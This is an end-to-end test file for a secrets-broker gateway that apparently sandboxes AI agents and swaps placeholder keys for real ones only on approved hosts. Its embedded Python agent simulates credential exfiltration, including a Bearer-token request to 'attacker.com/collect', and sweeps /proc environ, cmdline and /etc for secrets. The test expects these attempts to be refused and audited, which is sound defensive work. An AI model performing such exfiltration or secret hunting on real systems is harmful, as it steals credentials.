/**
 * The gateway half of the secrets broker (issue 12), end to end: `aegis run` under crun with the
 * egress-clients image, against the fake internet's HTTPS servers (their test CA trusted by the
 * gateway through AEGIS_UPSTREAM_CA_FILE, never by the agent). The agent holds placeholders only:
 * - urllib, requests, httpx, curl over HTTP/2 (proxy variables: CONNECT) and Node's fetch (transparent port
 *   443 capture) call api.openai.com/v1/whoami, which answers 200 only with the real key;
 * - the same placeholder sent to another terminated host (header, query, body), or over plain
 *   HTTP to another allowed host, is refused (403 secrets.credential_host_mismatch), audited
 *   (secret.denied) and never reaches that host;
 * - method/path rules allow GET /bucket/** and refuse POST and other paths, with reason codes;
 * - an upstream whose certificate does not name the host is refused (gateway.upstream_cert_invalid);
 * - the value is nowhere the agent looks: environment, /proc environ and cmdline, the CA bundle
 *   and other files it can read, the bytes it received.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { setTimeout } from 'node:timers/promises';
import {
  chmodSync,
  closeSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { AEGIS_BIN } from '../../src/test-support/repo.js';
import { FAKE_API_KEY, startFakeInternet, UPSTREAM_DNS, type FakeInternet } from './gateway-fake-internet.js';
import { requirementsOrSkip } from './gateway-support.js';
import { requireOrSkip, sandboxUnavailable } from './sandbox-conformance.js';

const STORAGE_VALUE = 'gcs-token-NEVERINSIDE-9e8d7c';

/**
 * The readable memory of every process whose environment holds an AEGIS placeholder (the
 * sandboxed agent and its children; the gateway holds values, not placeholders, in its
 * environment), read from the host through /proc/<pid>/mem.
 */
function agentMemory(): { pids: number; bytes: number; found: (needle: Buffer) => boolean } {
  const chunks: Buffer[] = [];
  let pids = 0;
  for (const pid of readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
    let environ: Buffer;
    try {
      environ = readFileSync(`/proc/${pid}/environ`);
    } catch {
      continue;
    }
    if (!environ.includes('=aegis-ph-') || pid === String(process.pid)) continue;
    pids++;
    let fd: number | null = null;
    try {
      fd = openSync(`/proc/${pid}/mem`, 'r');
      for (const line of readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
        const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
        if (!m || line.includes('[vvar]') || line.includes('[vsyscall]')) continue;
        const start = BigInt(`0x${m[1]}`);
        const len = Number(BigInt(`0x${m[2]}`) - start);
        if (len > 256 * 1024 * 1024) continue;
        const buf = Buffer.alloc(len);
        try {
          const n = readSync(fd, buf, 0, len, start);
          chunks.push(buf.subarray(0, n));
        } catch {
          /* a region that cannot be read (guard pages) */
        }
      }
    } catch {
      /* the process ended meanwhile */
    } finally {
      if (fd !== null) closeSync(fd);
    }
  }
  return { pids, bytes: chunks.reduce((a, c) => a + c.length, 0), found: (needle) => chunks.some((c) => c.includes(needle)) };
}
const ROTATED_VALUE = 'sk-live-rotated-4d5e6f';

/** Calls the API every 100 ms until the gateway stops swapping (or the upstream refuses the key). */
const ROTATE_AGENT = `import json, os, time, urllib.request, urllib.error
KEY = os.environ['API_KEY']
res = []
for i in range(600):
    req = urllib.request.Request('https://api.openai.com/v1/whoami?n=%d' % i, headers={'Authorization': 'Bearer ' + KEY})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            res.append([r.status, None])
    except urllib.error.HTTPError as e:
        res.append([e.code, e.headers.get('x-aegis-reason')])
    if res[-1][0] != 200:
        break
    time.sleep(0.1)
print(json.dumps(res))
`;

const AGENT = `import glob, json, os, subprocess, urllib.request, urllib.error
KEY = os.environ['API_KEY']
GCS = os.environ['GCS_KEY']
WHOAMI = 'https://api.openai.com/v1/whoami'
out = {'placeholder': KEY, 'ssl_cert_file': os.environ.get('SSL_CERT_FILE')}
def call(url, headers=None, method='GET', data=None):
    req = urllib.request.Request(url, headers=headers or {}, method=method, data=data)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return {'status': r.status, 'reason': r.headers.get('x-aegis-reason'), 'body': r.read().decode('latin1')}
    except urllib.error.HTTPError as e:
        return {'status': e.code, 'reason': e.headers.get('x-aegis-reason'), 'body': e.read().decode('latin1')}
    except Exception as e:
        return {'status': None, 'error': repr(e)}
bearer = {'Authorization': 'Bearer ' + KEY}
out['urllib'] = call(WHOAMI, bearer)
try:
    import requests
    r = requests.get(WHOAMI, headers=bearer, timeout=30)
    out['requests'] = {'status': r.status_code, 'body': r.text}
except Exception as e:
    out['requests'] = {'status': None, 'error': repr(e)}
try:
    import httpx
    r = httpx.get(WHOAMI, headers=bearer, timeout=30)
    out['httpx'] = {'status': r.status_code, 'body': r.text}
except Exception as e:
    out['httpx'] = {'status': None, 'error': repr(e)}
c = subprocess.run(['curl', '-sS', '--http2', '-w', '\\\\n%{http_code} %{http_version}', '-H', 'Authorization: Bearer ' + KEY, WHOAMI], capture_output=True, text=True)
code, version = (c.stdout.strip().split('\\n')[-1].split(' ') + ['0', '?'])[:2]
out['curl'] = {'status': int(code or 0), 'http_version': version, 'body': c.stdout, 'err': c.stderr}
n = subprocess.run(['node', '-e', "fetch(process.argv[1], {headers: {authorization: 'Bearer ' + process.env.API_KEY}}).then(async r => console.log(JSON.stringify({status: r.status, body: await r.text()}))).catch(e => console.log(JSON.stringify({status: null, error: String(e.cause || e)})))", WHOAMI], capture_output=True, text=True)
out['node'] = json.loads(n.stdout or '{}') if n.stdout.strip() else {'status': None, 'error': n.stderr}
# Exfiltration attempts with the placeholder.
out['to_other_header'] = call('https://storage.googleapis.com/bucket/x', bearer)
out['to_other_query'] = call('https://storage.googleapis.com/bucket/x?k=' + KEY)
out['to_other_body'] = call('https://storage.googleapis.com/bucket/x', {'Content-Type': 'text/plain'}, 'GET', ('stolen=' + KEY).encode())
out['to_attacker_http'] = call('http://attacker.com/collect', bearer)
# Method/path rules on storage.googleapis.com (and its own secret in the query).
out['rule_get'] = call('https://storage.googleapis.com/bucket/obj?key=' + GCS)
out['rule_post'] = call('https://storage.googleapis.com/bucket/obj', method='POST', data=b'x')
out['rule_path'] = call('https://storage.googleapis.com/other')
out['wrong_cert'] = call('https://wrongname.example.net/v1/whoami')
# Where the agent can look for the real value.
seen = {}
for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + ['/etc/ssl/certs/ca-certificates.crt']:
    try:
        seen[p] = open(p, 'rb').read().decode('latin1')
    except OSError:
        pass
for root in ['/agent', '/tmp', '/etc']:
    for dirpath, dirs, files in os.walk(root):
        for f in files:
            try:
                seen[os.path.join(dirpath, f)] = open(os.path.join(dirpath, f), 'rb').read(1 << 20).decode('latin1')
            except OSError:
                pass
out['bundle_has_ca'] = 'BEGIN CERTIFICATE' in seen.get('/etc/ssl/certs/ca-certificates.crt', '')
out['environ'] = dict(os.environ)
out['looked'] = seen
print(json.dumps(out))
`;

describe(
  'aegis run: the gateway swaps placeholders for bound hosts only',
  { ...requirementsOrSkip(['ip', 'nft', 'crun']), timeout: 240_000 },
  () => {
    let work = '';
    let home = '';
    let file = '';
    let inet: FakeInternet | undefined;
    const unavailable: Record<'crun' | 'gvisor', string | null> = { crun: null, gvisor: null };
    const env = (): NodeJS.ProcessEnv => ({
      ...process.env,
      AEGIS_HOME: home,
      AEGIS_UPSTREAM_DNS: `${UPSTREAM_DNS}:53`,
      AEGIS_ALERT_RULES: 'none',
      // a rotated-out version stays usable by running executions for 2 s (docs/secrets.md)
      AEGIS_SECRETS_ROTATION_OVERLAP: '2s',
      ...(inet ? { AEGIS_UPSTREAM_CA_FILE: inet.caFile } : {}),
    });
    const aegis = (args: string[], input?: string) => {
      const r = spawnSync(process.execPath, [AEGIS_BIN, ...args], {
        encoding: 'utf8',
        env: env(),
        timeout: 180_000,
        maxBuffer: 64 * 1024 * 1024,
        ...(input !== undefined ? { input } : { stdio: ['ignore', 'pipe', 'pipe'] }),
      });
      return { code: r.status, out: r.stdout, err: r.stderr };
    };

    before(async () => {
      unavailable.crun = await sandboxUnavailable('crun');
      unavailable.gvisor = await sandboxUnavailable('gvisor');
      work = mkdtempSync('/var/tmp/aegis-run-secrets-gw-');
      chmodSync(work, 0o755);
      home = join(work, 'home');
      mkdirSync(home);
      const code = join(work, 'agent');
      mkdirSync(code);
      chmodSync(code, 0o755);
      writeFileSync(join(code, 'main.py'), AGENT);
      writeFileSync(join(code, 'rotate.py'), ROTATE_AGENT);
      writeFileSync(
        join(code, 'agent-rotate.yaml'),
        'version: "1.0"\nagent:\n  name: secret-rotate\n  runtime: "egress-clients:bookworm"\n  entrypoint: ["python3", "rotate.py"]\n  isolation: crun\n  env:\n    API_KEY: "secret:openai"\npermissions:\n  network:\n    allow: [api.openai.com]\n    rate_limit: 200/s\n  execution_time: 120s\n',
      );
      file = join(code, 'agent-ISOLATION.yaml');
      for (const isolation of ['crun', 'gvisor'])
        writeFileSync(
          file.replace('ISOLATION', isolation),
          [
            'version: "1.0"',
            'agent:',
            '  name: secret-user',
            '  runtime: "egress-clients:bookworm"',
            '  entrypoint: ["python3", "main.py"]',
            `  isolation: ${isolation}`,
            '  env:',
            '    API_KEY: "secret:openai"',
            '    GCS_KEY: "secret:gcs"',
            'permissions:',
            '  network:',
            '    allow:',
            '      - api.openai.com',
            '      - attacker.com',
            '      - {host: storage.googleapis.com, methods: [GET], paths: ["/bucket/**"]}',
            '      - {host: wrongname.example.net, methods: [GET]}',
            '    rate_limit: 200/s',
            '',
          ].join('\n'),
        );
      if (unavailable.crun !== null && unavailable.gvisor !== null) return;
      inet = await startFakeInternet();
      const set1 = aegis(['secret', 'set', 'openai', '--hosts', 'api.openai.com', '--header', 'authorization'], `${FAKE_API_KEY}\n`);
      assert.equal(set1.code, 0, set1.err);
      const set2 = aegis(['secret', 'set', 'gcs', '--hosts', 'storage.googleapis.com'], `${STORAGE_VALUE}\n`);
      assert.equal(set2.code, 0, set2.err);
    });
    after(async () => {
      await inet?.close();
      rmSync(work, { recursive: true, force: true });
    });

    for (const isolation of ['crun', 'gvisor'] as const)
      it(`${isolation}: real clients get 200 with the value swapped in; exfiltration, rules and a bad upstream certificate are refused and audited`, async (t) => {
        if (!requireOrSkip(t, unavailable[isolation])) return;
        const summary = join(work, `summary-${isolation}.json`);
        const before = inet!.requestsSeen().length;
        const r = aegis(['run', file.replace('ISOLATION', isolation), '--state-dir', join(work, 'state'), '--summary', summary]);
        assert.equal(r.code, 0, r.err);
        assert.ok(
          !r.out.includes(FAKE_API_KEY) && !r.out.includes(STORAGE_VALUE),
          'the agent never saw a value (env, /proc, files, responses)',
        );
        type Res = { status: number | null; reason?: string | null; error?: string; body?: string };
        const o = JSON.parse(r.out) as Record<string, Res> & {
          placeholder: string;
          ssl_cert_file: string;
          bundle_has_ca: boolean;
          looked: Record<string, string>;
        };
        assert.match(o.placeholder, /^aegis-ph-[0-9a-f]{32}$/);
        assert.equal(o.ssl_cert_file, '/etc/ssl/certs/ca-certificates.crt');
        assert.equal(o.bundle_has_ca, true);
        assert.ok(Object.keys(o.looked).length > 20, 'the agent looked around');
        assert.equal((o['curl'] as unknown as { http_version: string }).http_version, '2', 'curl spoke HTTP/2 to the terminated host');
        for (const client of ['urllib', 'requests', 'httpx', 'curl', 'node'])
          assert.equal(o[client]!.status, 200, `${client}: ${JSON.stringify(o[client])}`);
        const reasons = (k: string): [number | null, string | null | undefined] => [o[k]!.status, o[k]!.reason];
        assert.deepEqual(reasons('to_other_header'), [403, 'secrets.credential_host_mismatch']);
        assert.deepEqual(reasons('to_other_query'), [403, 'secrets.credential_host_mismatch']);
        assert.deepEqual(reasons('to_other_body'), [403, 'secrets.credential_host_mismatch']);
        assert.deepEqual(reasons('to_attacker_http'), [403, 'secrets.credential_host_mismatch']);
        assert.deepEqual(reasons('rule_get'), [200, null]);
        assert.deepEqual(reasons('rule_post'), [403, 'net.denied.http_method']);
        assert.deepEqual(reasons('rule_path'), [403, 'net.denied.http_path']);
        assert.deepEqual(reasons('wrong_cert'), [502, 'gateway.upstream_cert_invalid']);

        // What the upstreams received: the real key at api.openai.com; no placeholder anywhere, and
        // nothing at all from the refused requests.
        const seen = inet!.requestsSeen().slice(before);
        const whoami = seen.filter((s) => s.host === 'api.openai.com' && s.path === '/v1/whoami');
        assert.equal(whoami.length, 5, JSON.stringify(whoami));
        for (const s of whoami) assert.equal(s.authorization, `Bearer ${FAKE_API_KEY}`);
        assert.ok(!JSON.stringify(seen).includes(o.placeholder), 'no upstream ever saw the placeholder');
        assert.ok(!seen.some((s) => s.host === 'attacker.com' || s.host === 'wrongname.example.net'));
        const storage = seen.filter((s) => s.host === 'storage.googleapis.com');
        assert.deepEqual(
          storage.map((s) => s.path),
          [`/bucket/obj?key=${STORAGE_VALUE}`],
        );

        const { executionId } = JSON.parse(readFileSync(summary, 'utf8')) as { executionId: string };
        const events = (action: string): Array<{ reason?: string; payload: Record<string, unknown> }> => {
          const q = aegis(['audit', 'query', '--json', '--execution', executionId, '--action', action]);
          assert.equal(q.code, 0, q.err);
          return q.out
            .trim()
            .split('\n')
            .filter(Boolean)
            .map((l) => (JSON.parse(l) as { event: { reason?: string; payload: Record<string, unknown> } }).event);
        };
        const uses = events('secret.use');
        assert.equal(
          uses.filter((e) => e.payload.secret === 'openai' && e.payload.host === 'api.openai.com' && e.payload.version === 1).length,
          5,
        );
        assert.ok(uses.some((e) => e.payload.secret === 'gcs' && e.payload.header === 'query'));
        const denied = events('secret.denied');
        assert.deepEqual(
          denied.map((e) => [e.reason, e.payload.host]),
          [
            ['secrets.credential_host_mismatch', 'storage.googleapis.com'],
            ['secrets.credential_host_mismatch', 'storage.googleapis.com'],
            ['secrets.credential_host_mismatch', 'storage.googleapis.com'],
            ['secrets.credential_host_mismatch', 'attacker.com'],
          ],
        );
        const all = aegis(['audit', 'export']);
        assert.ok(!all.out.includes(FAKE_API_KEY) && !all.out.includes(STORAGE_VALUE), 'no value in the log');
        assert.ok(!all.out.includes(o.placeholder), 'no placeholder in the log');
      });

    it("crun: the value is nowhere in the running agent's memory; a rotated secret: the running execution keeps its version for the overlap only, a new execution gets the new one", async (t) => {
      if (!requireOrSkip(t, unavailable.crun)) return;
      const before = inet!.requestsSeen().length;
      const child = spawn(
        process.execPath,
        [AEGIS_BIN, 'run', join(work, 'agent', 'agent-rotate.yaml'), '--state-dir', join(work, 'state')],
        {
          env: env(),
          stdio: ['ignore', 'pipe', 'pipe'],
        },
      );
      let out = '';
      let err = '';
      child.stdout.on('data', (c: Buffer) => (out += c.toString()));
      child.stderr.on('data', (c: Buffer) => (err += c.toString()));
      const exited = once(child, 'exit');
      // Rotate once the running agent has been served with the old version.
      for (
        let i = 0;
        i < 600 &&
        !inet!
          .requestsSeen()
          .slice(before)
          .some((s) => s.path.startsWith('/v1/whoami?n='));
        i++
      )
        await setTimeout(100);
      // The agent has been served with the value swapped in: its processes' memory (read from the
      // host, as root) holds the placeholder and never the value.
      const mem = agentMemory();
      assert.ok(mem.pids > 0 && mem.bytes > 1_000_000, `read the agent's memory: ${JSON.stringify({ pids: mem.pids, bytes: mem.bytes })}`);
      assert.equal(mem.found(Buffer.from(FAKE_API_KEY)), false, 'the value is not in the memory of any agent process');
      assert.equal(mem.found(Buffer.from('aegis-ph-')), true, 'the scan sees what the agent holds (its placeholder)');
      const rotated = aegis(['secret', 'rotate', 'openai'], `${ROTATED_VALUE}\n`);
      assert.equal(rotated.code, 0, rotated.err);
      const [code] = (await exited) as [number];
      assert.equal(code, 0, err);
      const calls = JSON.parse(out) as Array<[number, string | null]>;
      assert.deepEqual(calls.at(-1), [403, 'secrets.credential_retired'], out);
      assert.ok(calls.slice(0, -1).every(([s]) => s === 200) && calls.length > 2, out);
      const oldRun = inet!.requestsSeen().slice(before);
      assert.ok(
        oldRun.every((s) => s.authorization === `Bearer ${FAKE_API_KEY}`),
        'the running execution only ever sent its own version',
      );

      // A new execution takes version 2: the upstream receives the rotated value (and refuses it: 401).
      const mid = inet!.requestsSeen().length;
      const next = aegis(['run', join(work, 'agent', 'agent-rotate.yaml'), '--state-dir', join(work, 'state')]);
      assert.equal(next.code, 0, next.err);
      assert.deepEqual(JSON.parse(next.out), [[401, null]]);
      assert.deepEqual(
        inet!
          .requestsSeen()
          .slice(mid)
          .map((s) => s.authorization),
        [`Bearer ${ROTATED_VALUE}`],
      );
      assert.ok(!next.out.includes(ROTATED_VALUE) && !out.includes(FAKE_API_KEY));
    });
  },
);
